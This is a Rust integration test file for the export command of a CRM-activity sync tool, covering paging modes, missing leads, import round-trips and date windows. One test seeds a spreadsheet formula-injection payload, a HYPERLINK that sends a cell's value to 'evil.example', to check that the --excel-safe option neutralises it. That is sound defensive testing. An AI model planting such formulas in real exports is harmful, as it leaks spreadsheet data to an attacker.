//! `lsq-sync export` end to end: every activity exactly once whatever Offset means, a lead that
//! does not exist reported while the rest goes on, and an export that imports as it is into
//! another account.

use std::collections::{BTreeMap, HashSet};

use lsq_sync::lsq::api::{ActivityItem, FieldValue};
use lsq_sync::simulator::{
    DEMO_OWNERS, PagingMode, RetrieveDates, RunningSimulator, SimConfig, demo_lead_id,
};

use crate::support::*;

const RATE: &str = API_RATE;

fn fast_sim(paging: PagingMode, dates: RetrieveDates) -> SimConfig {
    SimConfig {
        rate: Some(RATE.parse().expect("quota")),
        paging,
        retrieve_dates: dates,
        ..SimConfig::default()
    }
}

/// Seeds `n` activities of `code` on `lead`, with distinct notes, dates and fields.
fn seed(sim: &RunningSimulator, lead: &str, code: i64, n: usize, tag: &str) -> Vec<String> {
    (0..n)
        .map(|i| {
            sim.sim.add_activity(ActivityItem {
                related_prospect_id: lead.to_string(),
                activity_event: code,
                activity_note: Some(format!("{tag} note {i}, \"quoted\"")),
                activity_owner_email: Some(DEMO_OWNERS[i % DEMO_OWNERS.len()].to_string()),
                activity_date_time: Some(format!(
                    "2024-{:02}-{:02} {:02}:{:02}:00",
                    1 + i % 12,
                    1 + i % 28,
                    i % 24,
                    i % 60
                )),
                fields: vec![
                    FieldValue {
                        schema_name: "mx_Custom_1".into(),
                        value: format!("{tag}-{i}"),
                    },
                    FieldValue {
                        schema_name: "mx_Custom_3".into(),
                        value: format!("third {i}"),
                    },
                ],
            })
        })
        .collect()
}

async fn exports_everything_once(paging: PagingMode, dates: RetrieveDates) {
    let sim = simulator(fast_sim(paging, dates)).await;
    let big = demo_lead_id(1);
    let small = demo_lead_id(2);
    let missing = "0f0e0d0c-0b0a-4909-8807-060504030201";
    // 230 activities: three pages of 100 and a short one, whatever Offset counts.
    seed(&sim, &big, 201, 230, "big");
    seed(&sim, &small, 202, 7, "small");
    let dir = tempfile::tempdir().expect("dir");
    let url = sim.base_url();
    let leads = format!("{big},{missing},{small}");
    let out = run_cli(
        dir.path(),
        &[
            "export",
            "--leads",
            &leads,
            "--out",
            "out.csv",
            "--status",
            "status.csv",
        ],
        &api_env(&url),
    )
    .await;
    assert_eq!(
        out.status.code(),
        Some(1),
        "one lead does not exist: {}",
        stderr(&out)
    );
    let rows = read_csv(&dir.path().join("out.csv"));
    let ids: Vec<&str> = rows.iter().map(|r| r["Id"].as_str()).collect();
    let distinct: HashSet<&str> = ids.iter().copied().collect();
    assert_eq!(distinct.len(), ids.len(), "{paging:?}: an activity twice");
    let expected: HashSet<String> = [big.as_str(), small.as_str()]
        .iter()
        .flat_map(|lead| sim.sim.activities_of_lead(lead))
        .filter(|a| !a.deleted)
        .map(|a| a.id)
        .collect();
    // 230 + 7 seeded, plus the two owner changes every demo lead has.
    assert_eq!(expected.len(), 230 + 7 + 4);
    assert_eq!(
        distinct,
        expected.iter().map(String::as_str).collect::<HashSet<_>>(),
        "{paging:?}"
    );
    let status = read_csv(&dir.path().join("status.csv"));
    let by_lead: BTreeMap<&str, (&str, &str)> = status
        .iter()
        .map(|r| {
            (
                r["LeadId"].as_str(),
                (r["Status"].as_str(), r["Activities"].as_str()),
            )
        })
        .collect();
    assert_eq!(by_lead[big.as_str()], ("exported", "232"));
    assert_eq!(by_lead[small.as_str()], ("exported", "9"));
    assert_eq!(by_lead[missing].0, "not_found");
    assert!(
        stderr(&out).contains("1 not found"),
        "summary line: {}",
        stderr(&out)
    );
}

async fn export_reads_every_activity_once_with_zero_based_pages(dates: RetrieveDates) {
    exports_everything_once(PagingMode::ZeroBasedPage, dates).await;
}

async fn export_reads_every_activity_once_with_one_based_pages(dates: RetrieveDates) {
    exports_everything_once(PagingMode::OneBasedPage, dates).await;
}

async fn export_reads_every_activity_once_with_row_offsets(dates: RetrieveDates) {
    exports_everything_once(PagingMode::RowOffset, dates).await;
}

/// What an activity is, apart from where it lives: lead, code, note, date, owner, fields.
type Essence = (
    String,
    i64,
    String,
    String,
    Option<String>,
    BTreeMap<String, String>,
);

fn essence(a: &lsq_sync::simulator::StoredActivity) -> Essence {
    (
        a.lead_id.clone(),
        a.event_code,
        a.note.clone().unwrap_or_default(),
        a.date_time.clone(),
        a.owner_email.clone(),
        a.fields.clone(),
    )
}

async fn an_export_imports_as_is_into_another_account(dates: RetrieveDates) {
    let source = simulator(fast_sim(PagingMode::RowOffset, dates)).await;
    let target = simulator(fast_sim(PagingMode::ZeroBasedPage, dates)).await;
    let leads = [demo_lead_id(3), demo_lead_id(4)];
    seed(&source, &leads[0], 201, 40, "a");
    seed(&source, &leads[1], 201, 3, "b");
    // Another code, left out by --event.
    seed(&source, &leads[1], 202, 2, "other");

    let dir = tempfile::tempdir().expect("dir");
    std::fs::write(
        dir.path().join("leads.csv"),
        format!("Name,LeadId\nfirst,{}\nsecond,{}\n", leads[0], leads[1]),
    )
    .expect("leads file");
    let source_url = source.base_url();
    let out = run_cli(
        dir.path(),
        &[
            "export",
            "--leads",
            "leads.csv",
            "--event",
            "201",
            "--out",
            "export.csv",
        ],
        &api_env(&source_url),
    )
    .await;
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));

    let target_url = target.base_url();
    let out = run_cli(
        dir.path(),
        &["import", "export.csv", "--out", "report.csv"],
        &api_env(&target_url),
    )
    .await;
    assert_eq!(out.status.code(), Some(0), "import: {}", stderr(&out));

    let mut want: Vec<Essence> = leads
        .iter()
        .flat_map(|lead| source.sim.activities_of_lead(lead))
        .filter(|a| a.event_code == 201)
        .map(|a| essence(&a))
        .collect();
    let mut got: Vec<Essence> = posted_activities(&target).iter().map(essence).collect();
    want.sort();
    got.sort();
    assert_eq!(want.len(), 43);
    assert_eq!(got, want);
    // The source's ids travel in the report's carried columns.
    let report = read_report(&dir.path().join("report.csv"));
    assert!(
        report
            .iter()
            .all(|r| !r["Id"].is_empty() && r["Status"] == "created")
    );
}

async fn excel_safe_prefixes_formula_cells_of_the_export(dates: RetrieveDates) {
    let sim = simulator(fast_sim(PagingMode::ZeroBasedPage, dates)).await;
    let lead = demo_lead_id(5);
    let formula = r#"=HYPERLINK("http://evil.example/?"&A1,"click")"#;
    sim.sim.add_activity(ActivityItem {
        related_prospect_id: lead.clone(),
        activity_event: 201,
        activity_note: Some(formula.into()),
        activity_owner_email: None,
        activity_date_time: Some("2024-05-02 10:00:00".into()),
        fields: [("mx_Custom_1", "-5"), ("mx_Custom_2", "@SUM(A1)")]
            .map(|(name, value)| FieldValue {
                schema_name: name.into(),
                value: value.into(),
            })
            .to_vec(),
    });
    let dir = tempfile::tempdir().expect("dir");
    let url = sim.base_url();
    for (flag, note, sum) in [
        (None, formula.to_string(), "@SUM(A1)"),
        (Some("--excel-safe"), format!("'{formula}"), "'@SUM(A1)"),
    ] {
        let mut args = vec![
            "export", "--leads", &lead, "--event", "201", "--out", "out.csv", "--host", &url,
            "--rate", RATE,
        ];
        args.extend(flag);
        let out = run_cli(dir.path(), &args, &[]).await;
        assert_eq!(out.status.code(), Some(0), "{flag:?}: {}", stderr(&out));
        let rows = read_csv(&dir.path().join("out.csv"));
        assert_eq!(rows.len(), 1, "{flag:?}: {rows:?}");
        assert_eq!(rows[0]["ActivityNote"], note, "{flag:?}");
        assert_eq!(rows[0]["mx_Custom_2"], sum, "{flag:?}");
        // A plain number stays a number.
        assert_eq!(rows[0]["mx_Custom_1"], "-5", "{flag:?}");
    }
}

under_both_retrieve_modes!(
    export_reads_every_activity_once_with_zero_based_pages,
    export_reads_every_activity_once_with_one_based_pages,
    export_reads_every_activity_once_with_row_offsets,
    an_export_imports_as_is_into_another_account,
    excel_safe_prefixes_formula_cells_of_the_export,
);

/// Bar 1 of issue 25: on a server that ignores Retrieve's undocumented date filter, a windowed
/// export writes exactly the activities in the window, by lead and by code alike. 54
/// activities on one lead over 2019, 30 of them in the quarter (its first and last second
/// included, the seconds just outside left out), and another lead's of the same code.
async fn a_windowed_export_writes_exactly_the_window(dates: RetrieveDates) {
    let sim = simulator(fast_sim(PagingMode::ZeroBasedPage, dates)).await;
    let (lead, other) = (demo_lead_id(6), demo_lead_id(7));
    let (from, to) = ("2019-03-01 00:00:00", "2019-06-30 23:59:59");
    let mut inside_dates: Vec<String> = vec![from.into(), to.into()];
    inside_dates.extend((0..28).map(|i| format!("2019-{:02}-{:02} 12:00:00", 3 + i % 4, 1 + i)));
    let mut outside_dates: Vec<String> =
        vec!["2019-02-28 23:59:59".into(), "2019-07-01 00:00:00".into()];
    outside_dates.extend((0..22).map(|i| {
        let month = [1, 2, 7, 8, 9, 10, 11, 12][i % 8];
        format!("2019-{month:02}-{:02} 08:00:00", 1 + i)
    }));
    let add = |lead: &str, code: i64, date: &str| seed_activity(&sim, lead, code, date, date);
    let mut inside: Vec<(String, i64)> = Vec::new();
    for (i, date) in inside_dates.iter().enumerate() {
        let code = 201 + (i % 2) as i64;
        inside.push((add(&lead, code, date), code));
    }
    for (i, date) in outside_dates.iter().enumerate() {
        add(&lead, 201 + (i % 2) as i64, date);
    }
    assert_eq!(inside.len() + outside_dates.len(), 54);
    let other_inside = add(&other, 201, "2019-04-04 04:04:04");
    add(&other, 201, "2018-04-04 04:04:04");

    let dir = tempfile::tempdir().expect("dir");
    let url = sim.base_url();
    let exported = |args: &[&str]| {
        let mut all = vec!["export", "--from", from, "--to", to, "--out", "out.csv"];
        all.extend(args);
        let dir = dir.path().to_path_buf();
        let env = api_env(&url).map(|(k, v)| (k.to_string(), v.to_string()));
        let all: Vec<String> = all.iter().map(|a| a.to_string()).collect();
        async move {
            let args: Vec<&str> = all.iter().map(String::as_str).collect();
            let env: Vec<(&str, &str)> =
                env.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
            let out = run_cli(&dir, &args, &env).await;
            assert_eq!(out.status.code(), Some(0), "{args:?}: {}", stderr(&out));
            read_csv(&dir.join("out.csv"))
                .into_iter()
                .map(|r| r["Id"].clone())
                .collect::<HashSet<String>>()
        }
    };
    let ids = |code: Option<i64>| -> HashSet<String> {
        inside
            .iter()
            .filter(|(_, c)| code.is_none_or(|code| *c == code))
            .map(|(id, _)| id.clone())
            .collect()
    };
    assert_eq!(
        exported(&["--leads", &lead]).await,
        ids(None),
        "{dates:?}: by lead"
    );
    assert_eq!(
        exported(&["--leads", &lead, "--event", "201"]).await,
        ids(Some(201)),
        "{dates:?}: by lead, one code"
    );
    let mut by_code = ids(Some(201));
    by_code.insert(other_inside);
    assert_eq!(
        exported(&["--event", "201"]).await,
        by_code,
        "{dates:?}: by code"
    );
}

under_both_retrieve_modes!(a_windowed_export_writes_exactly_the_window);
